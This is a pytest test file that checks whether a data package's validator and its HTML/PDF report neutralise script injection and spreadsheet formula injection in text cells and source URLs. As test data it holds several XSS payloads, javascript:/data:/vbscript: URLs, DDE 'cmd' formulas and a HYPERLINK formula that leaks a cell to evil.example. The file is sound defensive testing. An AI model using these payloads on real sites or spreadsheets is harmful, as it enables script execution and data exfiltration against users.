"""No cell can run code in a reader's browser or spreadsheet.

Two halves. Validation refuses markup, script addresses and formulas in every text field, each
with the rule or constraint that says why. And should such a cell get past validation anyway
(the report is rendered here from a hostile copy, bypassing it), the HTML and the PDF show it as
plain text: headless Chromium opens the page and no script from the data runs, no dialog opens,
no request leaves the page, and the payloads are there to read; source addresses that are not
http(s) never become links.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from hardening_helpers import (
    RESOURCES,
    edit_descriptor,
    make_copy,
    read_rows,
    rehash,
    resource_of,
    run_cli,
    write_rows,
)

from browser import visit
from support import ROOT, tiered

#: What a hostile contributor would put in a text cell. Each one sets ``window.__pwned`` or
#: opens a dialog if it ever runs. The first one closes a ``<script>`` element (such as the one
#: that holds a chart's data) and has no quotes, so no JSON escaping can defuse it.
SCRIPT = '<script>window.__pwned=1;alert("script")</script>'
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
PAYLOADS = [
    "</script><img src=x onerror=window.__pwned=1>",
    SCRIPT,
    "<img src=x onerror=\"window.__pwned=1;alert('img')\">",
    "<svg/onload=window.__pwned=1>",
    "[click me](javascript:window.__pwned=1)",
    "`<b>raw</b>`{=html}",
    '<a href="javascript:alert(1)">link</a>',
    "javascript:window.__pwned=1",
    FORMULA,
]

#: Source addresses that must never become a link (rows 2.. of sources.csv), and one that is
#: http(s) but tries to break out of the attribute: it must stay a link, quoted.
BAD_URLS = [
    'javascript:window.__pwned=1;alert("url")',
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
]
BREAKOUT_URL = 'https://example.org/"onmouseover="window.__pwned=1'

#: Which rule refuses each payload in a free-text field.
REFUSED_BY = {
    **{p: "text_cells/no-html" for p in PAYLOADS if p != FORMULA},
    FORMULA: "text_cells/no-formula-prefix",
    "+cmd|' /C calc'!A0": "text_cells/no-formula-prefix",
    "-2+3+cmd|' /C calc'!A0": "text_cells/no-formula-prefix",
    "@SUM(1+1)": "text_cells/no-formula-prefix",
    "\t=1+1": "text_cells/no-control-characters",
}

TEXT_FIELDS = [(res, field) for res, (_, fields) in sorted(RESOURCES.items()) for field in fields]


def fill(folder: Path, payload: str, lines: int = 1) -> list[tuple[str, int, str]]:
    """Put ``payload`` in every free-text field of the first ``lines`` records; the cells."""
    cells = []
    for resource, (path, fields) in RESOURCES.items():
        if not fields:
            continue
        rows = read_rows(folder, resource)
        for line in range(2, min(len(rows), lines + 1) + 1):
            for field in fields:
                rows[line - 1][rows[0].index(field)] = payload
                cells.append((path, line, field))
        write_rows(folder, resource, rows)
    return cells


@pytest.mark.parametrize("payload", tiered(sorted(REFUSED_BY), [SCRIPT, FORMULA]))
def test_validation_refuses_the_payload_in_every_text_field(payload: str, tmp_path: Path) -> None:
    make_copy(tmp_path)
    cells = fill(tmp_path, payload)
    rehash(tmp_path)
    code, out = run_cli("validate", str(tmp_path / "datapackage.json"))
    assert code == 1, out
    rule = f"[rule:{REFUSED_BY[payload]}]"
    for path, line, field in cells:
        located = [
            ln for ln in out.splitlines() if ln.strip().startswith(f"{path}:{line} ") and rule in ln
        ]
        assert any(f"field {field!r}" in ln for ln in located), (path, line, field, out[-3000:])


@pytest.mark.parametrize("payload", [SCRIPT, FORMULA])
def test_schema_refuses_the_payload_in_every_id_or_coded_field(
    payload: str, tmp_path: Path
) -> None:
    """Ids, codes and enums: their pattern or enum refuses markup and formulas before any rule."""
    make_copy(tmp_path)
    descriptor = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    cells = []
    for res in descriptor["resources"]:
        rows = read_rows(tmp_path, res["name"])
        for spec in res["schema"]["fields"]:
            if spec["type"] == "string" and {"enum", "pattern"} & set(spec.get("constraints", {})):
                rows[1][rows[0].index(spec["name"])] = payload
                cells.append((res["path"], spec["name"]))
        write_rows(tmp_path, res["name"], rows)
    rehash(tmp_path)
    code, out = run_cli("validate", "--schema-only", str(tmp_path / "datapackage.json"))
    assert code == 1
    for path, field in cells:
        assert any(
            ln.startswith(f"{path}:2: field {field!r}: constraint error") for ln in out.splitlines()
        ), (path, field)


@pytest.mark.parametrize("url", tiered([*BAD_URLS, BREAKOUT_URL], [BREAKOUT_URL]))
def test_source_url_must_be_http(url: str, tmp_path: Path) -> None:
    make_copy(tmp_path)
    rows = read_rows(tmp_path, "sources")
    rows[1][rows[0].index("url")] = url
    write_rows(tmp_path, "sources", rows)
    rehash(tmp_path)
    code, out = run_cli("validate", str(tmp_path / "datapackage.json"))
    assert code == 1
    if url == BREAKOUT_URL:  # http(s), so the pattern lets it be: the no-html rule catches it
        assert "data/sources.csv:2 [reuters-fr-2026-02-27]: field 'url'" in out, out
        assert "[rule:text_cells/no-html]" in out
    else:
        assert "data/sources.csv:2: field 'url': constraint error" in out, out
        assert 'constraint "pattern"' in out


# --- the report from a hostile copy ---------------------------------------------------------------


def hostile_copy(folder: Path) -> None:
    """Payloads in the first two records of every free-text field, in a field description and
    in the sources' addresses; validation is bypassed, so nothing refuses them."""
    make_copy(folder)
    shutil.copytree(ROOT / "report", folder / "report", ignore=shutil.ignore_patterns(".quarto"))
    n = 0
    for resource, (_, fields) in RESOURCES.items():
        rows = read_rows(folder, resource)
        for field in fields:
            for line in (1, 2):
                if line < len(rows):
                    rows[line][rows[0].index(field)] = PAYLOADS[n % len(PAYLOADS)]
                    n += 1
        if resource == "sources":
            for line, url in enumerate([*BAD_URLS, BREAKOUT_URL], start=1):
                rows[line][rows[0].index("url")] = url
        write_rows(folder, resource, rows)

    def describe(data: dict) -> None:
        resource_of(data, "rounds")["schema"]["fields"][1]["description"] = SCRIPT

    edit_descriptor(describe)(folder)
    rehash(folder)


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report rendered from the hostile copy (HTML and PDF), with a valid-looking check
    report so that the report does not validate again."""
    from openai_funding.render import render

    folder = tmp_path_factory.mktemp("hostile")
    hostile_copy(folder)
    code, _ = run_cli("validate", str(folder / "datapackage.json"))
    assert code == 1  # the copy is refused: the render below bypasses that on purpose
    checks = folder / "validation.json"
    checks.write_text(
        json.dumps(
            {
                "descriptor": "datapackage.json",
                "valid": True,
                "checks_run": 0,
                "checks_failed": 0,
                "notes": [],
                "checks": [],
            }
        ),
        encoding="utf-8",
    )
    env = {
        "OPENAI_FUNDING_PACKAGE": str(folder / "datapackage.json"),
        "OPENAI_FUNDING_VALIDATION": str(checks),
        "SOURCE_DATE_EPOCH": "1772150400",
    }
    out = folder / "render"
    render(
        folder / "report",
        to=("html", "pdf"),
        engine="offline",
        output_dir=out,
        env=env,
        log=lambda _: None,
    )
    return out


@pytest.mark.slow
def test_html_holds_the_payloads_as_text_only(hostile_report: Path) -> None:
    soup = BeautifulSoup((hostile_report / "index.html").read_text(encoding="utf-8"), "html.parser")
    for node in soup.find_all(True):
        handlers = [a for a in node.attrs if a.lower().startswith("on")]
        assert handlers == [], (node.name, handlers)
    assert soup.find_all(["img", "svg", "iframe", "object", "embed"]) == []
    for script in soup.find_all("script"):
        if "__pwned" in script.get_text():
            assert script.get("type") == "application/json"  # chart data, never run
    hrefs = [a["href"] for a in soup.find_all("a", href=True)]
    assert all(urlsplit(h).scheme in ("", "http", "https") for h in hrefs), hrefs
    # a payload in an address, or in a quote's text fragment (#:~:text=), is percent-encoded
    assert not [h for h in hrefs if "pwned" in h and re.search(r"[<>\"'\s]", h)], hrefs
    assert any(h.startswith("https://example.org/%22onmouseover=%22") for h in hrefs), hrefs
    assert sum(h.startswith("https://") for h in hrefs) > 10  # the good sources are still links


@pytest.mark.browser
def test_chromium_runs_no_script_from_the_data(hostile_report: Path) -> None:
    page = hostile_report / "index.html"
    seen = visit(
        page,
        {
            "pwned": "typeof window.__pwned",
            "text": "document.body.innerText",
            "links": "Array.from(document.querySelectorAll('a[href]')).map((a) => a.href)",
            "handlers": "Array.from(document.querySelectorAll('*')).filter((e) =>"
            " Array.from(e.attributes).some((a) => a.name.startsWith('on'))).length",
        },
    )
    assert seen.values["pwned"] == "undefined"
    assert seen.dialogs == []
    assert seen.console_errors == []
    assert seen.values["handlers"] == 0
    assert seen.charts_drawn  # the charts drew, with the hostile names as labels
    outside = [u for u in seen.requests if u != page.as_uri() and not u.startswith("data:")]
    assert outside == []
    text = " ".join(seen.values["text"].split())
    for payload in PAYLOADS:
        assert payload in text, payload
    for link in seen.values["links"]:
        assert urlsplit(link).scheme in ("file", "http", "https"), link


@pytest.mark.slow
def test_pdf_shows_the_payloads_as_text(hostile_report: Path) -> None:
    exe = shutil.which("pdftotext")
    if exe is None:
        pytest.fail("pdftotext is missing: apt-get install poppler-utils")
    text = subprocess.run(
        [exe, str(hostile_report / "index.pdf"), "-"], capture_output=True, text=True, check=True
    ).stdout
    # Typst breaks long words at any line end (after "evil." for instance): compare without
    # white space, so a break cannot hide a payload and cannot make one up.
    flat = "".join(text.split())
    for payload in PAYLOADS:
        assert "".join(payload.split()) in flat, payload
